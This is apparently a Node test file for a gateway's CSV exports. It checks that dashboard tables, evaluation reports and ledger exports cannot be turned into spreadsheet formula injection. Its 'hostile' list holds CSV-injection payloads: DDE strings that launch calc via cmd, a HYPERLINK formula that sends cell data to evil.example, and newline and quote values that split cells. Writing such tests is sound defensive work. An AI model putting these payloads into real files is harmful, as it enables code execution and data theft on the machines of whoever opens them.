/** What callers say is text in every export for spreadsheets: no cell begins as a formula, and none becomes several. */

import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { readdirSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { text } from 'node:stream/consumers'
import { after, test } from 'node:test'
import { csvOf } from '../../dashboard/src/format/csv.ts'
import { asArray } from '../../src/core/json.ts'
import { csvReport } from '../../src/evals/reports/csv.ts'
import { parseCsv } from '../../src/judgement/suite/csv.ts'
import { evalRow } from '../support/eval-rows.ts'
import { asOwner } from '../support/people.ts'
import { startStack } from '../support/stack.ts'
import { until } from '../support/until.ts'

const root = resolve(import.meta.dirname, '../..')

const hostile = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'a","=1+1',
  'a\n=1+1',
  'a\r\n=1+1,=2',
  '""=1',
]

/** No cell is one that a spreadsheet would run; a number is none. */
function assertHarmless(csv: string, columns: number): readonly string[] {
  const parsed = parseCsv(csv)
  assert.ok('rows' in parsed, JSON.stringify(parsed))
  const cells = parsed.rows.flatMap((row) => {
    assert.equal(row.cells.length, columns, JSON.stringify(row.cells))
    return row.cells
  })
  for (const cell of cells) {
    assert.ok(/^-?\d+(?:\.\d+)?$/.test(cell) || !/^[=+\-@\t\r]./s.test(cell), JSON.stringify(cell))
  }
  return cells
}

const isKept = (cells: readonly string[], said: string) =>
  cells.some((cell) => cell === said || cell === `'${said}`)

test('tables of the dashboard: requests, usage, keys, the audit', () => {
  const cells = assertHarmless(csvOf(hostile.map((said) => [said, 'b', '-1.5'])), 3)
  for (const said of hostile) assert.ok(isKept(cells, said), said)
})

test('rows of evaluations', () => {
  const rows = hostile.map((said) =>
    evalRow(said, said, { model: said, pass: false, replies: [{ output: said, toolCalls: [] }] }),
  )
  const lines = [...csvReport(rows)]
  const cells = assertHarmless(lines.join('\n'), lines[0]!.split(',').length)
  for (const said of hostile) assert.ok(isKept(cells, said), said)
})

test('the ledger, in its own columns and in those of FOCUS', async () => {
  const stack = await startStack({ after })
  const owner = asOwner(stack)
  // What a header can carry; names of keys can carry the rest.
  const inHeaders = hostile.filter((said) => !/[\r\n]/.test(said) && said === said.trim())
  for (const said of hostile) {
    const { status, body } = await owner('POST', '/keys', { name: said })
    if (status !== 201) continue
    for (const header of inHeaders.slice(0, 2)) {
      await stack.post(
        '/v1/chat/completions',
        { model: 'openai/echo', messages: [{ role: 'user', content: 'x' }], user: said },
        {
          authorization: `Bearer ${String(body['secret'])}`,
          'x-weir-session': header,
          'x-weir-tags': header,
        },
      )
    }
  }
  await until('the lines', async () =>
    asArray((await stack.admin('/ledger?limit=1000'))['data']).length >= 10 ? true : undefined,
  )
  for (const format of ['csv', 'focus']) {
    const child = spawn(
      join(root, 'bin/weir'),
      ['ledger', 'export', '--format', format, '--data', stack.gateway.config.dataDir],
      {
        cwd: stack.gateway.config.dataDir,
        env: { PATH: process.env['PATH'] ?? '' },
        stdio: ['ignore', 'pipe', 'inherit'],
      },
    )
    const [csv] = await Promise.all([text(child.stdout), once(child, 'close')])
    const [head = ''] = csv.split('\n')
    const cells = assertHarmless(csv, head.split(',').length)
    assert.ok(
      inHeaders.slice(0, 2).every((said) => cells.some((cell) => cell.includes(said))),
      csv.slice(0, 2000),
    )
  }
})

test('nothing else writes cells', () => {
  const quotes = `replaceAll('"', '""')`
  const files = ['src', 'dashboard/src'].flatMap((folder) =>
    readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' }).map((file) => join(folder, file)),
  )
  const found = files.filter(
    (file) =>
      /\.tsx?$/.test(file) &&
      !/\.test\./.test(file) &&
      readFileSync(join(root, file), 'utf8').includes(quotes),
  )
  const known = [
    'dashboard/src/format/csv.ts',
    'src/cli/ledger.ts',
    'src/core/csv.ts',
    'src/evals/reports/csv.ts',
  ]
  assert.deepEqual(
    found.filter((file) => !known.includes(file)),
    [],
    'a new export, which no test here looks at',
  )
})
